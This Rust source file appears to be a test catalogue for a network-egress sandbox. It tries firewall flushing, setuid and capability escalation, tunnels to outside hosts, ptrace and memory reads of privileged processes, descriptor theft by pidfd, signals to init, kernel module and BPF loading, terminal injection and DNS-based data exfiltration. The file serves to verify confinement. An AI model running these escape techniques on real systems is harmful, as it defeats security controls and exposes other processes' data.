//! Getting back what the start took away, and using what others have.

use std::{
    fs::{self, File, OpenOptions},
    io::{self, Read, Seek, SeekFrom, Write},
};

use nix::{
    libc,
    mount::{MsFlags, mount},
    sys::{
        resource::{Resource, getrlimit, setrlimit},
        signal::{Signal, kill},
    },
    unistd::{Gid, Pid, Uid, setgroups, setresgid, setresuid},
};

use super::{Attempt, Context, Evidence, families, run, send_anything};
use crate::{
    stage::{FILE_CAPABILITIES, SETUID, bystander},
    support::{sys, world::SENTINEL},
    sys as calls,
};

pub fn attempts() -> Vec<Attempt> {
    let privileged = |name, body| Attempt::new("privileges", name, body).privileged();
    let hold = |name, body| privileged(name, body).evidence(Evidence::Hold);
    let rules = |name, body| Attempt::new("privileges", name, body);
    vec![
        privileged("the table deleted", |c| {
            nft(c, "delete table inet egress_init")
        }),
        privileged("every table flushed", |c| nft(c, "flush ruleset")),
        privileged("the policy of the chain turned", |c| {
            nft(
                c,
                "flush chain inet egress_init output; \
                 add chain inet egress_init output { policy accept; }",
            )
        }),
        privileged("a rule put first", |c| {
            nft(c, "insert rule inet egress_init output accept")
        }),
        privileged("the table put to sleep", |c| {
            nft(c, "add table inet egress_init { flags dormant; }")
        }),
        privileged("an element added to the sets", |c| {
            let to = crate::support::world::ELSEWHERE[0];
            let port = c.port;
            nft(
                c,
                &format!("add element inet egress_init allow4 {{ {to} . udp . {port} }}"),
            )
        }),
        privileged("a setuid program", |c| become_program(SETUID, c)),
        privileged("a program with file capabilities", |c| {
            become_program(FILE_CAPABILITIES, c)
        }),
        privileged("setuid program from a user namespace", |c| {
            nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWUSER)?;
            become_program(SETUID, c)
        }),
        privileged("uid 0 again, then a packet socket", |c| {
            let root = Uid::from_raw(0);
            setresuid(root, root, root)?;
            packet(c)
        }),
        privileged("root's groups, then a packet socket", |c| {
            let root = Gid::from_raw(0);
            setgroups(&[root])?;
            setresgid(root, root, root)?;
            packet(c)
        }),
        privileged("every capability, then a packet socket", |c| {
            let _ = calls::take_all_capabilities();
            packet(c)
        }),
        privileged("ambient capabilities, then a program", |c| {
            const PR_CAP_AMBIENT: libc::c_long = 47;
            let _ = calls::take_all_capabilities();
            for capability in [12, 13, 21] {
                calls::numbers(libc::SYS_prctl, [PR_CAP_AMBIENT, 2, capability, 0, 0])?;
            }
            run("nft", &["flush", "ruleset"])?;
            send_anything(c)
        }),
        privileged("no_new_privs taken off, then a setuid program", |c| {
            let _ = calls::numbers(libc::SYS_prctl, [38, 0, 0, 0, 0]);
            become_program(SETUID, c)
        }),
        rules(
            "the socket filter replaced by one that lets all pass",
            |c| {
                // PR_SET_SECCOMP to mode 0, as far as that is an answer.
                let _ = calls::numbers(libc::SYS_prctl, [22, 0, 0, 0, 0]);
                packet(c)
            },
        ),
        rules("a tunnel: IP in IP", |c| {
            tunnel(c, "ipip remote 203.0.113.66 local 10.77.0.2")
        }),
        rules("a tunnel: GRE", |c| {
            tunnel(c, "gre remote 203.0.113.66 local 10.77.0.2")
        }),
        rules("a tunnel: sit", |c| {
            tunnel(c, "sit remote 203.0.113.66 local 10.77.0.2")
        }),
        rules("a tunnel: ip6tnl", |c| {
            tunnel(c, "ip6tnl remote 2001:db8::1166 local fd77::2")
        }),
        rules("a tunnel: VXLAN", |c| {
            tunnel(c, "vxlan id 7 remote 203.0.113.66 dstport 4789 dev eth0")
        }),
        rules("a tunnel: VXLAN to an allowed host", |c| {
            tunnel(c, "vxlan id 7 remote 198.51.100.10 dstport 4789 dev eth0")
        }),
        rules("a tunnel: GENEVE", |c| {
            tunnel(c, "geneve id 7 remote 203.0.113.66")
        }),
        rules("a tunnel: WireGuard and others by rtnetlink", |c| {
            tunnel(c, "wireguard")
        }),
        hold("tracing a privileged neighbour", |_| {
            calls::trace(bystander()?)
        }),
        hold("reading a privileged neighbour's memory", |_| {
            memory(bystander()?)
        }),
        hold(
            "a privileged neighbour's environment and root folder",
            |_| {
                fs::read(format!("/proc/{}/environ", bystander()?))?;
                fs::read_dir(format!("/proc/{}/root", bystander()?)).map(drop)
            },
        ),
        privileged("a privileged neighbour's packet socket, by pidfd", |c| {
            steal(bystander()?, c)
        }),
        hold("a signal that ends a privileged neighbour", |_| {
            // Signal 0 asks for the permission alone.
            calls::numbers(libc::SYS_kill, [bystander()?.into(), 0, 0, 0, 0]).map(drop)
        })
        .of_user(),
        hold("tracing process 1", |_| calls::trace(keeper()?)),
        hold("reading the memory of process 1", |_| memory(keeper()?)),
        privileged("the sockets of process 1, by pidfd", |c| {
            steal(keeper()?, c)
        }),
        rules("every signal to process 1", signals_to_init),
        hold("a mount over the sentinel's folder", |_| {
            mount(
                Some("tmpfs"),
                "/etc/beacon-code",
                Some("tmpfs"),
                MsFlags::empty(),
                None::<&str>,
            )?;
            fs::write(SENTINEL, "{}")
        }),
        hold("the sentinel's file system remounted", |_| {
            // With flags of the mount alone: those of the file system would outlive the control.
            let flags = MsFlags::MS_REMOUNT | MsFlags::MS_BIND | MsFlags::MS_NOATIME;
            mount(None::<&str>, "/etc", None::<&str>, flags, None::<&str>)?;
            Ok(())
        }),
        hold("its limits raised", |_| {
            let (soft, hard) = getrlimit(Resource::RLIMIT_MSGQUEUE)?;
            Ok(setrlimit(Resource::RLIMIT_MSGQUEUE, soft, hard + 1)?)
        }),
        hold("a BPF program for traffic control", |_| {
            calls::load_bpf(3).map(drop)
        }),
        hold("a BPF program for a cgroup's packets", |_| {
            calls::load_bpf(8).map(drop)
        }),
        hold("a BPF program for XDP", |_| calls::load_bpf(6).map(drop)),
        hold("the performance counters of all processors", |_| {
            calls::count_everything()
        }),
        hold("a kernel module", |_| module()),
        hold("the kernel's memory", |_| raw_devices()),
        hold("the program that the kernel runs for a core dump", |_| {
            OpenOptions::new()
                .write(true)
                .open("/proc/sys/kernel/core_pattern")
                .map(drop)
        })
        .of_user(),
        // To open /dev/net/tun gives nothing yet: an interface does.
        hold("a tun device", |_| {
            run("ip", &["tuntap", "add", "mode", "tun", "name", "escape2"])?;
            run("ip", &["link", "del", "escape2"])
        }),
        hold("vhost devices", |_| {
            device("/dev/vhost-vsock").or_else(|_| device("/dev/vhost-net"))
        }),
        hold("a key that IPsec uses (XFRM)", |_| {
            run("ip", &["xfrm", "policy", "list"])
        }),
        privileged("a route by another table and rule", |c| {
            run("ip", &["route", "add", "203.0.113.0/24", "dev", "lo"])?;
            run("ip", &["route", "del", "203.0.113.0/24", "dev", "lo"])?;
            run("nft", &["flush", "ruleset"])?;
            send_anything(c)
        }),
        hold("the reservation of ports", |_| {
            OpenOptions::new()
                .write(true)
                .open("/proc/sys/net/ipv4/ip_local_reserved_ports")
                .map(drop)
        })
        .of_user(),
        hold("characters typed into a terminal (TIOCSTI)", |_| {
            // TIOCSTI of one space, to whatever terminal there is.
            let terminal = File::open("/dev/tty")?;
            calls::type_into(&terminal)
        }),
        rules("a program without a file", |c| {
            let mut copy = File::from(calls::memory_file()?);
            copy.write_all(&fs::read(SETUID)?)?;
            let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&copy));
            run(&path, &["__undo", &serde_json::to_string(c)?]).and_then(|()| send_anything(c))
        }),
        rules("a key that the kernel resolves by DNS", |c| {
            let name = format!("{}.tunnel.example.net", c.token);
            calls::request_key(c"dns_resolver", &name)
        }),
        rules(
            "the network's variables loosened, where they can be written",
            loosened,
        ),
        privileged("the link mirrored by traffic control", |c| {
            run("tc", &["qdisc", "add", "dev", "lo", "clsact"])?;
            let filter = "filter add dev lo egress matchall action mirred egress mirror dev eth0";
            run("tc", &filter.split(' ').collect::<Vec<_>>())?;
            let socket = std::net::UdpSocket::bind("127.0.0.1:0")?;
            socket
                .send_to(&c.payload(), ("127.0.0.1", c.port))
                .map(drop)
        }),
    ]
}

fn nft(c: &Context, script: &str) -> io::Result<()> {
    run("nft", &[script])?;
    send_anything(c)
}

fn packet(c: &Context) -> io::Result<()> {
    families::send_frame(&sys::socket(libc::AF_PACKET, libc::SOCK_RAW, 0)?, c)
}

/// What a program with privileges of its own does for whoever starts it: `__undo CONTEXT`.
pub fn undo(context: &str) {
    let c: Context = serde_json::from_str(context).expect("a context");
    let root = Uid::from_raw(0);
    let _ = setresuid(root, root, root);
    let by_frame = packet(&c);
    let by_rules = run("nft", &["delete", "table", "inet", "egress_init"]);
    let sent = send_anything(&c);
    match by_frame.or(by_rules.and(sent)) {
        Ok(()) => {}
        Err(error) => {
            eprintln!("{}", super::describe(&error));
            std::process::exit(1);
        }
    }
}

fn become_program(path: &str, c: &Context) -> io::Result<()> {
    run(path, &["__undo", &serde_json::to_string(c)?])
}

/// A link of this kind, and something sent through it.
fn tunnel(c: &Context, kind: &str) -> io::Result<()> {
    let words: Vec<&str> = kind.split(' ').collect();
    let add = [&["link", "add", "escape1", "type"], &words[..]].concat();
    let _ = run("ip", &["link", "del", "escape1"]);
    run("ip", &add)?;
    run("ip", &["addr", "add", "10.99.0.1/24", "dev", "escape1"])?;
    run("ip", &["link", "set", "escape1", "up"])?;
    let _ = run(
        "ip",
        &[
            "neigh",
            "add",
            "10.99.0.2",
            "lladdr",
            "02:00:00:00:00:09",
            "dev",
            "escape1",
        ],
    );
    let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
    let sent = socket
        .send_to(&c.payload(), ("10.99.0.2", c.port))
        .map(drop);
    std::thread::sleep(std::time::Duration::from_millis(20));
    let _ = run("ip", &["link", "del", "escape1"]);
    sent
}

/// What an attempt on a supervisor says where there is none.
pub const NO_SUPERVISOR: &str = "process 1 has no privilege either";

/// Process 1, where it has privileges that the command does not: under `--supervise`. Else the
/// process that `apply --watch` left beside the command.
pub(super) fn keeper() -> io::Result<i32> {
    let neighbour = bystander().unwrap_or(0);
    let pids = fs::read_dir("/proc")?;
    pids.filter_map(|entry| entry.ok()?.file_name().to_str()?.parse::<i32>().ok())
        .find(|pid| *pid != neighbour && has_capabilities(*pid))
        .ok_or_else(|| io::Error::other(NO_SUPERVISOR))
}

fn has_capabilities(pid: i32) -> bool {
    // The own ones are not somebody else's.
    if u32::try_from(pid).is_ok_and(|pid| pid == std::process::id()) {
        return false;
    }
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|line| line.strip_prefix("CapEff:"))
        .is_some_and(|set| u64::from_str_radix(set.trim(), 16).is_ok_and(|set| set != 0))
}

fn memory(pid: i32) -> io::Result<()> {
    let maps = fs::read_to_string(format!("/proc/{pid}/maps"))?;
    let start = maps.split('-').next().unwrap_or_default();
    let start = usize::from_str_radix(start, 16).map_err(io::Error::other)?;
    let by_call = calls::read_memory(pid, start).map(drop);
    let by_file = File::open(format!("/proc/{pid}/mem")).and_then(|mut memory| {
        memory.seek(SeekFrom::Start(start as u64))?;
        memory.read_exact(&mut [0; 8])
    });
    by_call.or(by_file)
}

/// Every descriptor of another process that takes a frame.
fn steal(pid: i32, c: &Context) -> io::Result<()> {
    let pidfd = calls::owned(calls::numbers(
        libc::SYS_pidfd_open,
        [pid.into(), 0, 0, 0, 0],
    )?);
    let number = std::os::fd::AsRawFd::as_raw_fd(&pidfd);
    let mut last = Err(io::Error::other("no descriptor of it takes a frame"));
    for fd in 0..40 {
        match calls::numbers(libc::SYS_pidfd_getfd, [number.into(), fd, 0, 0, 0]) {
            Ok(stolen) => {
                if families::send_frame(&calls::owned(stolen), c).is_ok() {
                    return Ok(());
                }
            }
            Err(error) if error.raw_os_error() == Some(libc::EPERM) => last = Err(error),
            Err(_) => {}
        }
    }
    last
}

fn signals_to_init(c: &Context) -> io::Result<()> {
    // The ones that stop or end what can be stopped and ended come last.
    let last = [Signal::SIGSTOP, Signal::SIGKILL];
    let first = Signal::iterator().filter(|signal| !last.contains(signal));
    for signal in first {
        // The command is process 1, or its supervisor is: neither is to open anything.
        let _ = kill(Pid::from_raw(1), signal);
        let _ = send_anything(c);
    }
    for signal in last {
        let _ = kill(Pid::from_raw(1), signal);
    }
    send_anything(c)
}

/// finit_module(2) of no file: a kernel that has modules asks for the privilege first.
fn module() -> io::Result<()> {
    match calls::numbers(libc::SYS_finit_module, [-1, 0, 0, 0, 0]) {
        Err(error) if error.raw_os_error() == Some(libc::EBADF) => Ok(()),
        other => other.map(drop),
    }
}

fn device(path: &str) -> io::Result<()> {
    OpenOptions::new()
        .read(true)
        .write(true)
        .open(path)
        .map(drop)
}

fn raw_devices() -> io::Result<()> {
    let mut last = Err(io::Error::other("there is none"));
    for path in ["/dev/mem", "/proc/kcore"] {
        last = File::open(path).map(drop);
        if last.is_ok() {
            return Ok(());
        }
    }
    last
}

/// uid 0 may write some of them without a capability.
fn loosened(c: &Context) -> io::Result<()> {
    let variables = [
        ("ipv4/ip_forward", "1"),
        ("ipv4/conf/all/route_localnet", "1"),
        ("ipv4/conf/all/accept_local", "1"),
        ("ipv4/conf/all/rp_filter", "0"),
        ("ipv4/ip_nonlocal_bind", "1"),
        ("ipv6/ip_nonlocal_bind", "1"),
        ("ipv4/ping_group_range", "0 65535"),
        ("ipv4/tcp_fastopen", "1027"),
        ("ipv6/conf/all/forwarding", "1"),
        ("ipv6/conf/all/seg6_enabled", "1"),
        ("ipv6/conf/all/proxy_ndp", "1"),
        ("netfilter/nf_conntrack_tcp_loose", "1"),
        ("netfilter/nf_conntrack_tcp_be_liberal", "1"),
        ("netfilter/nf_conntrack_helper", "1"),
        ("netfilter/nf_hooks_lwtunnel", "0"),
    ];
    for (name, value) in variables {
        let _ = fs::write(format!("/proc/sys/net/{name}"), value);
    }
    let sent = send_anything(c);
    // By way of loopback, which now leads on.
    let socket = std::net::UdpSocket::bind("0.0.0.0:0")?;
    let _ = sys::set_option(&socket, libc::SOL_SOCKET, libc::SO_BINDTODEVICE, b"lo");
    let _ = socket.send_to(&c.payload(), (crate::support::world::ELSEWHERE[0], c.port));
    sent
}
